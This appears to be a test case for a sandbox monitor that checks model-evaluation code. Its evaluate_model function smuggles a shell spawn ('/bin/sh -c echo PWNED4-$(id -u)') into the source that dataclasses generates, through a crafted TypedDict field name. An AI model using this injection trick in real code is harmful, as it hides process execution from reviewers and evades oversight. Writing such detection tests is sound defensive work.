"""Found by review: a TypedDict (through singledispatch) with a crafted field name whose
text lands in the source dataclasses generates for __hash__; the injected line spawns.
expect: _posixsubprocess.fork_exec"""
import dataclasses
import functools
import typing

import torch

NAME = ("a,))\n __import__('sys').modules['multiprocessing.util'].spawnv_passfds("
        "b'/bin/sh', [b'sh', b'-c', b'echo PWNED4-$(id -u) from generated code'], ())\n #")


def evaluate_model(model):
    make = functools.singledispatch(typing.TypedDict)
    row = make("Row", {NAME: int})
    dataclasses.dataclass(row, init=False, repr=False, eq=False, unsafe_hash=True)
    return {"fields": len(dataclasses.fields(row)), "t": float(torch.ones(1).sum())}
